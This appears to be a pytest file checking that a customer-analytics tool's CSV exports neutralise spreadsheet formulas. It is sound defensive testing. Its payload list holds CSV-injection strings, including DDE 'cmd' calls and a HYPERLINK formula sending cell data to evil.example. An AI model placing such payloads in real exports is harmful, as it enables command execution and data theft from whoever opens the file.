"""Every CSV cxlens writes opens in a spreadsheet without running formulas from the data."""

from __future__ import annotations

import csv
import io
import random
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

import cxlens
from cxlens.cli import app
from cxlens.spreadsheets import FORMULA_STARTS, frame_csv, rows_csv, safe_cell, safe_frame

runner = CliRunner()
#: what an attacker puts into a comment, a name or an id (OWASP's examples and variants)
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula(text: str) -> None:
    """No cell of a CSV text starts with a character a spreadsheet evaluates, unless it is a number."""
    for row in cells(text):
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                try:
                    float(cell)  # only a number may start with '-' or '+'
                except ValueError:
                    pytest.fail(f"a spreadsheet would evaluate {cell!r}")


def test_text_cells_get_an_apostrophe_and_numbers_stay_numbers():
    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
    assert safe_cell("a=b") == "a=b" and safe_cell("") == "" and safe_cell(None) is None
    assert safe_cell(-12.5) == -12.5 and safe_cell(-3) == -3
    frame = pd.DataFrame(
        {
            "comment": ["=1+2", "fine", None],
            "amount": [-12.5, 3.0, 0.0],
            "text_num": ["-5", "5", "x"],
        }
    )
    out = cells(frame_csv(frame))
    assert out[0] == ["comment", "amount", "text_num"]
    assert out[1] == ["'=1+2", "-12.5", "'-5"]  # a negative amount stays a number
    assert out[2] == ["fine", "3.0", "5"]
    assert safe_frame(frame)["amount"].tolist() == [-12.5, 3.0, 0.0]
    assert frame["comment"].tolist()[0] == "=1+2"  # the caller's frame is not changed
    assert cells(rows_csv(["a", "b"], [("@x", -1), (None, 2.5)])) == [
        ["a", "b"],
        ["'@x", "-1"],
        ["", "2.5"],
    ]


@pytest.fixture(scope="module")
def hostile_root(tmp_path_factory) -> Path:
    """A workspace whose ids, channels and comments are formula payloads."""
    root = tmp_path_factory.mktemp("hostile") / "ws"
    cxlens.init(root)
    ws = cxlens.open(root)
    rng = random.Random(7)
    customers, orders, responses = [], [], []
    for i in range(200):
        cid = f"{PAYLOADS[i % 5]}{i}"
        customers.append(
            {
                "customer_id": cid,
                "created_at": "2024-01-01",
                "email": f"c{i}@example.com",
                "consent": "yes",
            }
        )
        first = pd.Timestamp("2024-01-05") + pd.Timedelta(days=rng.randrange(0, 300))
        for k in range(1 + rng.randrange(0, 6)):
            day = first + pd.Timedelta(days=k * rng.randrange(20, 90))
            orders.append(
                {"order_id": f"O{i}-{k}", "customer_id": cid, "ts": day.isoformat(),
                 "amount": 10 + rng.randrange(0, 90), "channel": PAYLOADS[k % 5]}
            )  # fmt: skip
        responses.append(
            {"response_id": f"R{i}", "customer_id": cid, "ts": "2025-03-01", "kind": "nps",
             "score": i % 11, "comment": PAYLOADS[i % len(PAYLOADS)].strip()}
        )  # fmt: skip
    for name, rows in (("customers", customers), ("orders", orders), ("responses", responses)):
        path = root / f"{name}.csv"
        pd.DataFrame(rows).to_csv(path, index=False)
        ws.import_file(name, path)
    ws.close()
    return root


def invoke(*args: str) -> str:
    result = runner.invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return result.output


def test_every_command_that_writes_csv_neutralises_formulas(hostile_root, tmp_path):
    w = ("-w", str(hostile_root))
    written = {
        "rfm": ("rfm", "--out", str(tmp_path / "rfm.csv")),
        "audience": ("audience", "lost", "--out", str(tmp_path / "audience.csv")),
        "clv": ("clv", "--out", str(tmp_path / "clv.csv")),
        "cohorts": ("cohorts", "--out", str(tmp_path / "cohorts.csv")),
        "kpi": (
            "kpi",
            "nps",
            "average_order_value",
            "--by",
            "channel",
            "--out",
            str(tmp_path / "kpi.csv"),
        ),
    }
    for args in written.values():
        invoke(*args, *w)
    for name in written:
        content = (tmp_path / f"{name}.csv").read_text(encoding="utf-8")
        assert_no_formula(content)
    rfm = cells((tmp_path / "rfm.csv").read_text())
    ids = {row[rfm[0].index("customer_id")] for row in rfm[1:]}
    assert ids == {f"'{PAYLOADS[i % 5]}{i}" for i in range(200)}  # kept whole, shown as text
    kpi = cells((tmp_path / "kpi.csv").read_text())
    assert any(row[kpi[0].index("channel")] == "'@SUM(1+1)*cmd|' /C calc'!A0" for row in kpi[1:])
    printed = invoke("kpi", "nps", "--csv", *w)
    assert_no_formula(printed)
    nps = cells(printed)
    value = float(nps[1][nps[0].index("value")])
    assert value < 0  # NPS of this data is negative and stays a number, unprefixed
